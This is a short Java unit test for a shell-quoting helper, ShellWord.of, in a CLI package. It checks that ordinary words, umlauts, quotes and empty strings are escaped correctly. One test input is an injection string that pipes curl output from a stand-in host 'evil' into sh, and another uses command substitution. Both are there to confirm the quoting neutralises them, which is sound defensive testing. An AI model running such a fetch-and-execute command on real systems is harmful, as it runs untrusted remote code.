// SPDX-License-Identifier: GPL-3.0-or-later
package org.gumshoe.services.cli.terminal;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class ShellWordTest {
    @Test
    void aTextIsOneWordOfTheShell() {
        assertThat(ShellWord.of("crime")).isEqualTo("crime");
        assertThat(ShellWord.of("murder,Mörder,life-boat")).isEqualTo("murder,Mörder,life-boat");
        assertThat(ShellWord.of("x; curl evil | sh #")).isEqualTo("'x; curl evil | sh #'");
        assertThat(ShellWord.of("it's `$(x)`")).isEqualTo("'it'\\''s `$(x)`'");
        assertThat(ShellWord.of("")).isEqualTo("''");
    }
}
